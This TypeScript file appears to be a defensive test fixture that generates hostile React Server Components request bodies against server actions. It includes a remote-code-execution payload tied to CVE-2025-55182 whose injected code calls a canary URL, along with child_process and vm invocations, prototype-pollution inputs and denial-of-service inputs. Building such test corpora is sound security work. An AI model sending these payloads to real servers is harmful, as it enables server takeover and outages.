interface FlightBody {
  type: string;
  body: string;
}

const BOUNDARY = 'wout-flight';

/** Bodies of server actions as attackers send them: each once crashed, stalled or took over a server, or looks as if it might. */
export function hostileFlight(canary: string): FlightBody[] {
  const code = `fetch(${JSON.stringify(canary)});process.mainModule.require('http').get(${JSON.stringify(canary)});`;
  // A model that is its own chunk, so that decoding it calls what it names (CVE-2025-55182).
  const stolen = (get: string) => [
    `{"status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","then":"$1:__proto__:then",
      "_response":{"_prefix":${JSON.stringify(code)},"_chunks":"$Q2","_formData":{"get":"${get}"}}}`,
    '"$@0"',
    '[]',
  ];
  return [
    form(stolen('$1:constructor:constructor')),
    form(stolen('$1:__proto__:constructor:constructor')),
    form(stolen('$3:constructor:constructor'), { 3: '[]' }),
    form(['["$F1"]', '{"id":"child_process#execSync","bound":null}']),
    form(['["$F1"]', `{"id":"vm#runInThisContext","bound":[${JSON.stringify(code)}]}`]),
    // Chunks that name each other, or themselves.
    form(['["$1"]', '"$0"']),
    form(['["$@0"]']),
    form(['["$Q1"]', '"$Q0"'], { 2: '"$W2"' }),
    form(['["$1"]', ...Array.from({ length: 200 }, (_one, at) => `["$${at + 2}","$${at + 2}"]`), '[]']),
    // Numbers, maps and lists that take long to read.
    text(`["$n${'9'.repeat(200_000)}"]`),
    text(`[${'['.repeat(20_000)}${']'.repeat(20_000)}]`),
    text(`[{"__proto__":{"role":"admin"},"constructor":{"prototype":{"role":"admin"}}}]`),
    form(['["$Q1"]', JSON.stringify(Array.from({ length: 20_000 }, (_one, at) => [`k${at}`, at]))]),
    form(['["$K1"]'], { '1_a': 'x', '1_a_a': 'x', '1_': '' }),
    ...['', '[', 'null', '"$"', '["$0"]', '["$$"]', '["$undefined","$NaN","$-0","$Infinity"]', '["$D"]', '["$B9"]'].map(
      text,
    ),
    ...['["$1:__proto__"]', '["$0:0:0:0"]', '["$T"]', '["$h1"]', '["$i1"]', '["$S"]', '["$o1"]', '["$r1"]'].map(text),
    { type: `multipart/form-data; boundary=${BOUNDARY}`, body: 'no parts' },
    {
      type: `multipart/form-data; boundary=${BOUNDARY}`,
      body: `--${BOUNDARY}\r\nContent-Disposition: form-data\r\n\r\n`,
    },
    { type: 'application/x-www-form-urlencoded', body: '0=[]&$ACTION_REF_1=&$ACTION_1:0={}' },
    { type: 'text/x-component', body: '0:"$L1"\n1:I["child_process"]\n' },
  ];
}

const text = (body: string): FlightBody => ({ type: 'text/plain;charset=UTF-8', body });

/** Chunks by their number, and more by their name. */
function form(chunks: string[], more: Record<string, string> = {}): FlightBody {
  const parts = [...chunks.entries(), ...Object.entries(more)].map(
    ([name, value]) => `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  );
  return { type: `multipart/form-data; boundary=${BOUNDARY}`, body: `${parts.join('')}--${BOUNDARY}--\r\n` };
}
